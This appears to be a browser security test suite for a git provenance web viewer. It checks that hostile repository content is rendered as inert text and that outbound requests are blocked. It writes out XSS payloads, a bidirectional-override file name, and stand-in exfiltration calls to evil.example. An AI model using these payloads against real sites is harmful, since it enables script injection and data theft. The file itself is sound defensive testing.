import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { encodeNote } from '../../../../src/model/format/note.ts';
import type { Note } from '../../../../src/model/model.ts';
import { makeRepo, type TestRepo } from '../../../helpers/repo.ts';
import { PROGRAM, type Served, startWeb } from '../served.ts';
import { goTo, settled, watchedPage } from './chromium.ts';
import { crowdedNote, hostileNote, NASTY } from './hostile-note.ts';
import type { Shared } from './shared.ts';

const NAME = '<img src=x onerror=alert(1)>.js';
const BIDI = 'docs/ev\u202etxt.exe';
const VIEWS = [
  '/',
  '/file',
  `/file/${encodeURIComponent(NAME)}?line=1`,
  `/file/${BIDI.split('/').map(encodeURIComponent).join('/')}`,
  '/file/big.txt',
  '/file/page.html?line=1',
  '/file/drawing.svg',
  '/review/HEAD~1..HEAD',
  '/session',
  '/graph/HEAD~1..HEAD',
  '/graph/HEAD~1..HEAD?node=%3Cscript%3Ealert(1)%3C/script%3E',
  '/knowledge',
  '/attestation/HEAD',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/%3Cscript%3E/x?y=%ff',
  '/session/%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
];

/** Hostile names, files, messages and notes appear as text: nothing runs, and no request leaves the page. */
export function testHostile(shared: Shared): void {
  let repo: TestRepo;
  let served: Served;
  const annotate = (note: Note): void => {
    const blob = repo.gitRaw(['hash-object', '-w', '--stdin'], encodeNote(note)).toString().trim();
    repo.git('notes', '--ref=provenance', 'add', '-C', blob, 'HEAD');
  };
  beforeAll(async () => {
    repo = makeRepo({ files: { 'a.txt': 'one\n' } });
    const write = (path: string, text: string): void => {
      mkdirSync(dirname(join(repo.dir, path)), { recursive: true });
      writeFileSync(join(repo.dir, path), text);
    };
    write(NAME, `const a = "${NASTY}";\n\u202e// reversed\n\u001b[31mred\u0007\n`);
    write(BIDI, 'text\n');
    write(
      'page.html',
      '<script>alert(1)</script><base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/a.css>\n',
    );
    write(
      'drawing.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><style>@import "https://evil.example/b.css";</style></svg>\n',
    );
    write('big.txt', `${'x'.repeat(1_000_000)}\n${'line of text\n'.repeat(70_000)}`); // more lines than a view has
    repo.git('add', '-A');
    repo.commit(`${NASTY}\n\n</script><script>alert(2)</script>`, '--author', `${NASTY.replaceAll(/[<>]/g, '')} <a@b>`);
    annotate(hostileNote(repo.oid('HEAD'), NAME));
    served = await startWeb(repo.dir, repo.env);
  });
  afterAll(async () => {
    await served?.stop();
    repo?.cleanup();
  });

  test('a hostile repository is shown as text in every view', async () => {
    const { page, context, offences } = await watchedPage(shared.browser(), served.origin);
    await page.goto(served.address);
    const texts: string[] = [];
    for (const view of VIEWS) {
      await goTo(page, view);
      texts.push(await page.evaluate(() => document.body.textContent));
      expect(await page.locator('main img, main script, main style, main iframe, main link, main base').count()).toBe(
        0,
      );
    }
    const all = texts.join('\n');
    expect(all).toContain('<img src=x onerror=alert(1)>');
    expect(all).toContain(String.raw`\u{202e}`);
    // eslint-disable-next-line no-misleading-character-class
    expect(all).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u001b\u0007]/);
    expect(offences).toEqual([]);
    await context.close();
  });

  test('a circle of causes is drawn', async () => {
    const { page, context, offences } = await watchedPage(shared.browser(), served.origin);
    await page.goto(served.address);
    await goTo(page, '/graph/HEAD~1..HEAD');
    await page.getByRole('searchbox', { name: 'Find in the graph' }).fill('round and round');
    await page.keyboard.press('Enter');
    await page.getByRole('complementary').getByText('round and round').first().waitFor();
    expect(offences).toEqual([]);
    await context.close();
  });

  test('an export of it runs nothing and sends no request', async () => {
    const file = join(repo.home, 'out.html');
    execFileSync(process.execPath, [PROGRAM, 'web', '--export', file, 'HEAD~1..HEAD'], {
      cwd: repo.dir,
      env: repo.env,
    });
    const { page, context, offences } = await watchedPage(shared.browser(), pathToFileURL(file).href);
    await page.goto(pathToFileURL(file).href);
    await settled(page);
    await page.getByText('<img src=x onerror=alert(1)>.js', { exact: false }).first().waitFor();
    await goTo(page, '/graph/HEAD~1..HEAD');
    await page.locator('.node').first().waitFor();
    expect(offences).toEqual([]);
    await context.close();
  });

  test('even a script in the page could not run or send anything', async () => {
    const { page, context, offences } = await watchedPage(shared.browser(), served.origin);
    await page.goto(served.address);
    await settled(page);
    const failures: (string | undefined)[] = [];
    page.on('requestfailed', (request) => failures.push(request.failure()?.errorText));
    page.on('requestfinished', (request) => {
      if (!request.url().startsWith(served.origin)) failures.push(request.url());
    });
    const stopped = await page.evaluate(async () => {
      const found: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => found.push(effectiveDirective));
      const image = new Image();
      image.src = 'https://evil.example/leak';
      document.body.append(image);
      await fetch('https://evil.example/leak').catch(() => undefined);
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>');
      } catch {
        found.push('innerHTML');
      }
      const style = document.createElement('style');
      style.textContent = '@import "https://evil.example/c.css"';
      document.body.append(style);
      await new Promise((resolve) => setTimeout(resolve, 200));
      return found;
    });
    for (const directive of ['img-src', 'connect-src', 'innerHTML', 'style-src-elem'])
      expect(stopped).toContain(directive);
    // The browser stopped each request before it was sent.
    expect(new Set(failures)).toEqual(new Set(['csp']));
    expect(offences.filter((offence) => offence.startsWith('dialog'))).toEqual([]);
    await context.close();
  });

  // After the others: with so many nodes every other answer takes longer.
  test('a crowd of 30,000 nodes is cut, and the page says so', async () => {
    for (const name of ['one', 'two']) {
      repo.commit(`A crowd ${name}`);
      annotate(crowdedNote(repo.oid('HEAD'), 15_000, name));
    }
    const { page, context, offences } = await watchedPage(shared.browser(), served.origin);
    await page.goto(served.address);
    await goTo(page, '/graph/HEAD~2..HEAD');
    await page.locator('.node').first().waitFor();
    await page.getByText('26,000 nodes more are left out', { exact: false }).waitFor();
    expect(await page.locator('.node').count()).toBeLessThan(4000);
    expect(offences).toEqual([]);
    await context.close();
  });
}
